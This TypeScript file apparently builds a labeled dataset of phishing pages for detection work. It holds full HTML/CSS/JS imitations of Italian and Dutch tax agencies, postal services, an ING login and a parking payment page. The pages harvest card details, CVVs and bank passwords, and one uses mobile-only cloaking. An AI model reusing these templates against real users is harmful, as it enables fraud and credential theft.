import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-ade-rimborso-irpef-carta',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://agenziaentrate-rimborsi.gov-it.info/rimborso/730/',
  body: doc({
    lang: 'it',
    title: 'Agenzia delle Entrate - Rimborso IRPEF',
    css: `body{margin:0;font-family:'Titillium Web',Arial,sans-serif;background:#f2f5f8;color:#19191a}
.it{background:#00264d;color:#fff;font-size:13px;padding:6px 24px}
.hd{background:#0066cc;color:#fff;padding:22px 24px;display:flex;gap:16px;align-items:center}.hd h2{margin:0;font-size:26px}
.ct{max-width:700px;margin:26px auto;background:#fff;padding:28px 32px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
.amt{font-size:32px;color:#008055;font-weight:700}
label{display:block;font-weight:600;margin:12px 0 4px;font-size:14px}input{width:100%;padding:10px;border:0;border-bottom:1px solid #5c6f82;font-size:16px;box-sizing:border-box;background:#fafbfc}
.r{display:flex;gap:14px}.r>div{flex:1}
button{background:#0066cc;color:#fff;border:0;border-radius:4px;padding:12px 28px;font-size:16px;font-weight:600;margin-top:20px}
.pr{font-size:12px;color:#5c6f82;margin-top:20px}`,
    body: `<div class="it">Agenzia delle Entrate</div>
<div class="hd">${mark('AE', '#fff', 44, '#0066cc')}<div><h2>Agenzia delle Entrate</h2><small>Servizi online - Rimborsi</small></div></div>
<div class="ct">
<h1>Rimborso da dichiarazione 730/2025</h1>
<p>Gentile contribuente, dall'elaborazione della Sua dichiarazione dei redditi risulta un credito a Suo favore di:</p>
<p class="amt">€ 487,39</p>
<p>L'accredito non è stato possibile perché l'IBAN comunicato non risulta valido. Per ricevere il rimborso sulla carta di pagamento associata al Suo codice fiscale, compili i dati seguenti. L'importo sarà accreditato entro 3-5 giorni lavorativi.</p>
<form id="rf" method="post" action="elabora.php">
<div class="r"><div><label>Nome e cognome</label><input name="nome" required></div><div><label>Codice fiscale</label><input name="cf" maxlength="16" required></div></div>
<label>Data di nascita</label><input name="nascita" placeholder="gg/mm/aaaa" required>
<label>Numero della carta su cui ricevere l'accredito</label><input name="carta" id="ca" inputmode="numeric" required>
<div class="r"><div><label>Scadenza</label><input name="scad" id="sc" placeholder="MM/AA" required></div><div><label>Codice di sicurezza (CVV)</label><input name="cvv" maxlength="4" required></div></div>
<label>Saldo disponibile (per la verifica della titolarità)</label><input name="saldo" placeholder="€">
<button type="submit">Richiedi accredito</button>
</form>
<p class="pr">Informativa sul trattamento dei dati personali ai sensi dell'art. 13 del Regolamento UE 2016/679. Agenzia delle Entrate - Via Giorgione, 106 - 00147 Roma - C.F. e P.IVA 06363391001</p>
</div>
<script>${cardJs}fmtCard(document.getElementById('ca'));fmtExp(document.getElementById('sc'));</script>`,
  }),
},
{
  id: 'yg-belastingdienst-teruggaaf-ideal',
  label: 'phishing',
  kind: 'tax-refund-kit',
  url: 'https://mijn-belastingdienst.teruggave-online.com/aanvraag?ref=' + digits('bd-ref', 9),
  body: doc({
    lang: 'nl',
    title: 'Belastingdienst | Teruggaaf inkomstenbelasting',
    css: `body{margin:0;font-family:RijksoverheidSans,Verdana,sans-serif;background:#fff}
.lg{display:flex;justify-content:center}.lg div{background:#154273;width:44px;height:80px}.lg span{padding:20px 10px;font-size:14px}
.blue{background:#154273;color:#fff;padding:14px 24px;font-size:20px}
main{max-width:640px;margin:24px auto;padding:0 18px}
.bedrag{background:#e5f0f9;padding:16px;font-size:18px;border-left:5px solid #154273}
.banks{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin-top:16px}
.banks button{padding:14px;border:1px solid #ccc;background:#fff;font-size:15px;text-align:left;cursor:pointer}
.banks button:hover{border-color:#154273;background:#f3f7fb}`,
    body: `<div class="lg"><div></div><span>Belastingdienst</span></div>
<div class="blue">Mijn Belastingdienst</div>
<main>
<h1>U heeft recht op een teruggaaf</h1>
<p>Na een herberekening van uw aanslag inkomstenbelasting over 2024 heeft u recht op een teruggaaf van:</p>
<div class="bedrag"><b>€ 312,84</b> &nbsp;(aanslagnummer ${digits('bd-ans', 9)}.H.46)</div>
<p>Wij kunnen het bedrag niet overmaken omdat uw rekeningnummer niet (meer) bij ons bekend is. Kies hieronder uw bank om uw rekeningnummer te bevestigen via iDEAL. Er wordt € 0,01 afgeschreven ter verificatie.</p>
<div class="banks" id="bk"></div>
</main>
<script>
var banks=[['ABN AMRO','abn'],['ING','ing'],['Rabobank','rabo'],['SNS','sns'],['ASN Bank','asn'],['RegioBank','regio'],['Knab','knab'],['bunq','bunq'],['Triodos Bank','triodos'],['Revolut','revolut']];
var h='';banks.forEach(function(b){h+='<button data-k="'+b[1]+'">'+b[0]+'</button>'});document.getElementById('bk').innerHTML=h;
document.querySelectorAll('#bk button').forEach(function(b){b.onclick=function(){location.href='/ideal/'+b.dataset.k+'/login?sid=${hex('bd-sid', 16)}'}});
</script>`,
  }),
  routes: {
    'mijn-belastingdienst.teruggave-online.com/ideal/ing/login': htmlRoute(doc({
      lang: 'nl',
      title: 'Inloggen - Mijn ING',
      css: cardCss('#ff6200', '#f0f0f0'),
      body: `<div class="wrap"><div class="card"><h1 style="color:#ff6200">Inloggen Mijn ING</h1><p class="sub">iDEAL-betaling aan Belastingdienst - € 0,01</p><form method="post" action="/ideal/ing/post.php"><label>Gebruikersnaam</label><input type="text" name="u" required><label>Wachtwoord</label><input type="password" name="p" required><button class="btn">Inloggen</button></form></div></div>`,
    })),
  },
},
{
  id: 'yg-poste-giacenza-pacco-199',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://poste-it.giacenza-spedizioni.com/tracking/IT' + digits('pi-trk', 9),
  body: doc({
    lang: 'it',
    title: 'Poste Italiane - Spedizione in giacenza',
    css: cardCss('#0047bb', '#f3f4f6', "'Titillium Web', Arial, sans-serif") + `.top{background:#ffcc00;border:0}.top b{color:#0047bb;font-size:22px}
.tl{list-style:none;padding:0;margin:16px 0;border-left:2px solid #0047bb}.tl li{padding:4px 0 10px 16px;position:relative;font-size:14px}.tl li:before{content:'';position:absolute;left:-6px;top:8px;width:10px;height:10px;border-radius:50%;background:#0047bb}
.tl li.r:before{background:#d00}.fee{display:flex;justify-content:space-between;border-top:1px solid #eee;padding-top:10px;font-weight:700}`,
    body: `<div class="top"><b>Poste Italiane</b><nav><a href="#">Cerca spedizioni</a><a href="#">Uffici postali</a></nav></div>
<div class="wrap"><div class="card">
<h1>La tua spedizione è in giacenza</h1>
<p class="sub">Codice spedizione: <b>IT${digits('pi-trk', 9)}</b></p>
<ul class="tl"><li>Spedizione accettata - Centro di smistamento di Bologna</li><li>In consegna</li><li class="r"><b>Mancata consegna: indirizzo incompleto</b></li></ul>
<p>Per riprogrammare la consegna è necessario il pagamento delle spese di giacenza.</p>
<div class="fee"><span>Spese di giacenza</span><span>€ 1,99</span></div>
<form id="pf" method="post" action="/tracking/pay.php">
<label>Nome e cognome</label><input type="text" name="nome" required>
<label>Indirizzo completo</label><input type="text" name="ind" required>
<div class="row"><div><label>CAP</label><input type="text" name="cap" maxlength="5" required></div><div><label>Città</label><input type="text" name="citta" required></div></div>
<label>Numero carta</label><input type="text" name="cc" id="cc" required>
<div class="row"><div><label>Scadenza</label><input type="text" name="sc" id="sc" placeholder="MM/AA" required></div><div><label>CVV</label><input type="text" name="cvv" maxlength="3" required></div></div>
<button class="btn">Paga € 1,99</button></form></div></div>
<div class="foot">Poste Italiane S.p.A. - P.IVA 01114601006</div>
<script>${cardJs}fmtCard(document.getElementById('cc'));fmtExp(document.getElementById('sc'));</script>`,
  }),
},
{
  id: 'yg-postnl-douane-ideal-mobile',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://postnl.pakket-bezorging.help/nl/track?c=3S' + digits('pnl', 11),
  body: doc({
    lang: 'nl',
    title: 'PostNL - Bezorging gepland',
    css: `body{margin:0;font-family:'Nunito Sans',Arial,sans-serif;background:#f3f3f5}
.h{background:#ed7000;color:#fff;padding:14px 18px;font-weight:800;font-size:22px}
.c{max-width:420px;margin:18px auto;background:#fff;border-radius:10px;padding:20px}
.st{display:flex;gap:6px}.st i{flex:1;height:6px;border-radius:3px;background:#ed7000}.st i.o{background:#ddd}
.k{background:#fff4e8;border-radius:8px;padding:12px;font-size:14px;margin:14px 0}
select,input{width:100%;padding:12px;border:1px solid #ccc;border-radius:8px;font-size:15px;box-sizing:border-box;margin-bottom:10px}
button{width:100%;padding:14px;background:#34c759;border:0;border-radius:8px;color:#fff;font-weight:800;font-size:16px}`,
    body: `<div class="h">PostNL</div>
<div class="c"><div class="st"><i></i><i></i><i></i><i class="o"></i></div>
<h2>Je pakket wacht op betaling</h2>
<p>Zending <b>3S${digits('pnl', 11)}</b> is aangekomen in het sorteercentrum. Er zijn nog invoerkosten verschuldigd voordat we het pakket kunnen bezorgen.</p>
<div class="k">Douanekosten: <b>€ 1,95</b><br>Uiterste betaaldatum: <b id="d"></b></div>
<form action="/nl/ideal.php" method="post"><select name="issuer" required><option value="">Kies je bank</option>${bankOptions()}</select>
<input name="postcode" placeholder="Postcode + huisnummer" required>
<button type="submit">Betaal met iDEAL</button></form>
<p style="font-size:12px;color:#999">Niet binnen 48 uur betaald? Dan wordt het pakket teruggestuurd naar de afzender.</p></div>
<script>document.getElementById('d').textContent=new Date(Date.now()+172800000).toLocaleDateString('nl-NL');
if(!/Mobi|Android|iPhone/.test(navigator.userAgent)&&screen.width>1100){document.body.innerHTML='<div style="padding:60px;font-family:Arial;text-align:center"><h2>Open deze link op je telefoon</h2><p>Deze pagina is alleen beschikbaar op mobiele apparaten.</p></div>'}</script>`,
  }),
},
{
  id: 'yg-parcheggio-qr-easypay',
  label: 'phishing',
  kind: 'parking-qr-kit',
  url: 'https://parkeasy-pay.eu/z/2471',
  body: doc({
    lang: 'nl-BE',
    title: 'Parkeren betalen - Zone 2471',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#111}
.t{background:#3bb54a;color:#fff;padding:16px;text-align:center;font-weight:700;font-size:19px}
.c{padding:18px;max-width:420px;margin:auto}
.z{display:flex;justify-content:space-between;background:#f3f8f3;border-radius:8px;padding:12px;margin-bottom:14px}
.dur{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin-bottom:14px}.dur button{padding:12px;border:1px solid #3bb54a;background:#fff;border-radius:8px;font-weight:700}
.dur button.on{background:#3bb54a;color:#fff}
input{width:100%;padding:12px;border:1px solid #ccc;border-radius:8px;box-sizing:border-box;margin-bottom:10px;font-size:16px}
.pay{width:100%;padding:14px;background:#111;color:#fff;border:0;border-radius:8px;font-size:16px;font-weight:700}`,
    body: `<div class="t">P Parkeren - Gent</div>
<div class="c"><div class="z"><span>Zone <b>2471</b> - Korenmarkt</span><span>€ 3,20/u</span></div>
<div class="dur"><button type="button">30 min</button><button type="button" class="on">1 uur</button><button type="button">2 uur</button></div>
<form method="post" action="/z/2471/pay">
<input name="plaat" placeholder="Nummerplaat (1-ABC-123)" required>
<input name="kaart" placeholder="Kaartnummer (Bancontact / Visa / Mastercard)" required>
<div style="display:flex;gap:8px"><input name="exp" placeholder="MM/JJ" required><input name="cvc" placeholder="CVC" required></div>
<input name="gsm" placeholder="GSM-nummer voor ticket" required>
<button class="pay">Betaal € 3,20</button></form>
<p style="font-size:11px;color:#888;text-align:center">Gescand via QR-code op de parkeerautomaat</p></div>
<script>document.querySelectorAll('.dur button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.dur button').forEach(function(x){x.classList.remove('on')});b.classList.add('on')}})</script>`,
  }),
},
];
